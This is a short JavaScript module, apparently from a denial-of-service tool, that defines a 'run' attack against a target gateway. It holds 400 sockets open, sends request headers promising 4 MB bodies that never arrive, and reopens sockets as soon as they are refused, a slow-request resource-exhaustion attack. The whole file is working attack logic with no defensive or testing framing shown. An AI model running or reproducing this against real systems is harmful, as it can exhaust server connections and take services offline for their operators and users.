// Requests that promise the longest body and send nothing of it.
import { headOf, hoardSockets } from '../sockets.mjs';

export const about =
  '400 one-shots that promise 4 MB of body each and send no byte of it, begun anew whenever one is refused.';

/** @param {import('../attack.mjs').Target} target */
export const run = (target) =>
  hoardSockets(target, 400, (socket) => socket.write(headOf(target.gateway, 4_000_000)), { eachMs: 2 });
